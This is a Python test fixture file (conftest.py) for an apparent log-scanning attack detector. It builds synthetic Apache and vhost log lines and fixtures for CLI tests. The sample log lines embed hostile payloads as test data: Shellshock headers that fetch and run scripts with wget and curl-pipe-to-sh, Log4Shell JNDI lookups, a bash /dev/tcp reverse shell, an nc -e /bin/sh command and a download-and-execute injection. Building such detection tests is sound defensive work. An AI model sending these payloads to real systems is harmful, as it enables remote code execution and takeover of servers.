"""Shared fixtures: the repo's sample logs, the external corpus (skipped when absent), a CLI runner."""

from __future__ import annotations

import gzip
import json
import os
import re
import tempfile
from pathlib import Path

import pytest
from hypothesis import settings
from typer.testing import CliRunner

from dropscan.detect.scanner import Scanner
from dropscan.engine import default_signatures

# No property test may depend on the machine's speed: hypothesis' default 200 ms deadline per
# example fails a loaded machine, not the code. Tests that want a fixed set of examples say so.
settings.register_profile("dropscan", deadline=None)
settings.load_profile("dropscan")

# compiled hyperscan databases: a per-session cache, never the user's ~/.cache
os.environ.setdefault("DROPSCAN_CACHE_DIR", tempfile.mkdtemp(prefix="dropscan-test-cache-"))
# the user's own dropscan.toml (~/.config/dropscan) must not change what the tests see
os.environ["XDG_CONFIG_HOME"] = tempfile.mkdtemp(prefix="dropscan-test-config-")

ROOT = Path(__file__).resolve().parents[1]
SAMPLE_LOGS = ROOT / "sample_logs"
CORPUS = Path(os.environ.get("DROPSCAN_CORPUS", ROOT.parent / "shared" / "corpus"))

# Lines written by a real Apache 2.4.71 (Debian 12), from ../shared/reference/ecosystem.md §1.5.
REAL_APACHE_LINES = [
    rb'127.0.0.1 - - [27/Nov/2026:17:15:03 +0000] "GET /cgi-bin/status HTTP/1.1" 404 493 "-" "() { :; }; /bin/bash -c \"wget http://198.51.100.7/a.sh -O /tmp/a.sh; sh /tmp/a.sh\""',  # noqa: E501
    rb'127.0.0.1 - - [27/Nov/2026:17:15:03 +0000] "GET /index.html HTTP/1.0" 400 525 "-" "-"',
    rb'127.0.0.1 - - [27/Nov/2026:17:15:03 +0000] "GET /caf\xc3\xa9/\xff?cmd=wget%20http%3A%2F%2F203.0.113.50%2Fx HTTP/1.1" 404 493 "-" "tab\there back\\slash"',  # noqa: E501
    rb'127.0.0.1 - - [27/Nov/2026:17:15:03 +0000] "GET //${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1" 404 493 "-" "-"',
    rb'127.0.0.1 - - [27/Nov/2026:17:15:58 +0000] "\x16\x03\x01" 400 525 "-" "-"',
    rb'127.0.0.1 - - [27/Nov/2026:17:15:58 +0000] "TRACE / HTTP/1.1" 405 510 "-" "-"',
    rb'127.0.0.1 - - [27/Nov/2026:17:15:58 +0000] "GET /a\"b HTTP/1.1" 404 485 "x\" 200 1 \"y" "-"',
]


# A minimal valid signature pack (tests mutate it into broken or hostile ones).
GOOD_PACK = """
- id: my.rule
  name: mine
  category: rce
  severity: high
  egress: false
  keywords: [";foo"]
  patterns: [';foo\\b']
  references: [local]
  examples: {match: ["/x?a=;foo"], no_match: ["/x?a=foo"]}
"""


@pytest.fixture(scope="session")
def sigs():
    return default_signatures()


@pytest.fixture(scope="session")
def full_scanner(sigs):
    return Scanner(sigs, fast=False)


@pytest.fixture(scope="session")
def fast_scanner(sigs):
    sc = Scanner(sigs, fast=True)
    if not sc.fast:
        pytest.skip("hyperscan is not installed: no fast path on this platform")
    return sc


@pytest.fixture()
def runner():
    return CliRunner()


def cli_run(runner, args, **kw):
    """Invoke the CLI in-process (CliRunner); exceptions propagate, so a traceback fails the test."""
    from dropscan.cli import app

    return runner.invoke(app, args, catch_exceptions=False, **kw)


def corpus_cases(source: str | None = None):
    """Cases from ../shared/corpus/*/cases.jsonl; skips the test when the corpus is absent."""
    if not CORPUS.is_dir():
        pytest.skip(f"external corpus not found at {CORPUS}")
    dirs = [CORPUS / source] if source else sorted(p for p in CORPUS.iterdir() if (p / "cases.jsonl").is_file())
    out = []
    for d in dirs:
        with open(d / "cases.jsonl", encoding="utf-8") as fh:
            out.extend(json.loads(line) for line in fh if line.strip())
    return out


def combined_line(
    target: str = "/",
    ua: str = "Mozilla/5.0",
    referer: str = "-",
    status: int = 200,
    client: str = "203.0.113.1",
    when: str = "[27/Nov/2026:10:00:00 +0000]",
) -> bytes:
    """A combined-format line as Apache would log it (fields Apache-escaped)."""
    from dropscan.formats.logformat import apache_escape

    return (
        f'{client} - - {when} "GET {apache_escape(target)} HTTP/1.1" {status} 100 '
        f'"{apache_escape(referer)}" "{apache_escape(ua)}"\n'
    ).encode()


def vhost_line(
    vhost: str,
    target: str = "/",
    *,
    port: int = 443,
    client: str = "203.0.113.1",
    when: str = "27/Nov/2026:10:00:00 +0000",
    status: int = 200,
    ua: str = "Mozilla/5.0",
    referer: str = "-",
) -> bytes:
    """A vhost_combined line (Debian's other_vhosts_access.log) as Apache would log it."""
    return f"{vhost}:{port} ".encode() + combined_line(target, ua, referer, status, client, f"[{when}]")


def dropscan_main(*args: str):
    """Run the console entry point in a subprocess: how users see errors (one line, exit 2)."""
    import subprocess
    import sys

    return subprocess.run(
        [sys.executable, "-c", "from dropscan.cli import main; main()", *args], capture_output=True, text=True
    )


# --- a vhost_combined log set for the egress report and rules -----------------------------------
WGET = "/cgi-bin/ping.cgi?ip=1.1.1.1;wget%20http://198.51.100.20:8080/bins/x86%20-O%20/tmp/x;chmod%20+x%20/tmp/x;/tmp/x"
SHELLSHOCK = "() { :; }; /bin/bash -c 'curl -fsSL https://malware.example/i.sh | sh'"
JNDI_V6 = "/api/search?q=${jndi:ldap://[2001:db8::66]:1389/Exploit}"
DEVTCP = "/x?c=;bash%20-i%20%3E%26%20/dev/tcp/203.0.113.77/9001%200%3E%261"
NC_LOOPBACK = "/diag?cmd=nc%20127.0.0.1%204444%20-e%20/bin/sh"


def write_vhost_logs(d):
    """Three rotated files, oldest gzip'd, whose attacks hit some vhosts and not others (the
    expected report is in test_report.py). blog.example.com is never attacked (its 'wget' is a
    search), legacy.example.com only probed (no destination)."""
    d.mkdir()
    oldest = [
        vhost_line("shop.example.com", "/", client="198.51.100.7", when="25/Nov/2026:23:59:58 +0000"),
        vhost_line("shop.example.com", WGET, client="203.0.113.10", when="26/Nov/2026:08:00:00 +0000"),
        vhost_line(
            "blog.example.com", "/search?q=how+to+use+wget", client="192.0.2.30", when="26/Nov/2026:08:01:00 +0000"
        ),
    ]
    (d / "other_vhosts_access.log.2.gz").write_bytes(gzip.compress(b"".join(oldest)))
    middle = [
        vhost_line("shop.example.com", WGET, client="203.0.113.10", when="26/Nov/2026:09:00:00 +0000", status=404),
        vhost_line("api.example.com", JNDI_V6, client="203.0.113.11", when="26/Nov/2026:09:30:00 +0000", status=400),
        vhost_line("legacy.example.com", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", port=80,
                   client="203.0.113.12", when="26/Nov/2026:10:00:00 +0000", status=404),
        vhost_line("blog.example.com", "/2026/11/hello", client="192.0.2.31", when="26/Nov/2026:10:01:00 +0000"),
    ]  # fmt: skip
    (d / "other_vhosts_access.log.1").write_bytes(b"".join(middle))
    newest = [
        vhost_line("shop.example.com", "/", ua=SHELLSHOCK, client="203.0.113.13", when="27/Nov/2026:07:00:00 +0000"),
        vhost_line("shop.example.com", DEVTCP, client="203.0.113.14", when="27/Nov/2026:07:05:00 +0000", status=500),
        vhost_line(
            "intranet.example.com", NC_LOOPBACK, port=80, client="203.0.113.15", when="27/Nov/2026:07:10:00 +0000"
        ),
        vhost_line("blog.example.com", "/feed", client="192.0.2.32", when="27/Nov/2026:07:11:00 +0000"),
    ]
    (d / "other_vhosts_access.log").write_bytes(b"".join(newest))
    return d


@pytest.fixture(scope="session")
def vhost_logs(tmp_path_factory):
    """A rotated vhost_combined log set (see `write_vhost_logs`)."""
    return write_vhost_logs(tmp_path_factory.mktemp("vhosts") / "logs")


def on_a_terminal(args: list[str], env: dict | None = None, stdout_too: bool = True) -> tuple[int, str]:
    """Run the CLI with stderr (and stdout, unless ``stdout_too`` is false: then it goes nowhere)
    on a pseudo-terminal, as a user at a shell would; everything the terminal received."""
    import pty
    import select
    import subprocess
    import sys

    master, slave = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-c", "from dropscan.cli import main; main()", *args],
        stdin=subprocess.DEVNULL,
        stdout=slave if stdout_too else subprocess.DEVNULL,
        stderr=slave,
        env=env if env is not None else {**os.environ, "NO_COLOR": "1"},
    )
    os.close(slave)
    out = b""
    while True:
        ready, _, _ = select.select([master], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    os.close(master)
    return proc.wait(60), out.decode()


_COVERAGE_START = re.compile(r"dropscan: (?:INCOMPLETE: |[\d,]+ (?:input|file)\(s\))")


def diagnostics(stderr: str) -> list[str]:
    """The lines of a scan's stderr before its coverage summary (`summary_text`, always last):
    errors, warnings, anything unexpected such as a traceback."""
    out = []
    for line in stderr.splitlines():
        if _COVERAGE_START.match(line):
            break
        out.append(line)
    return out
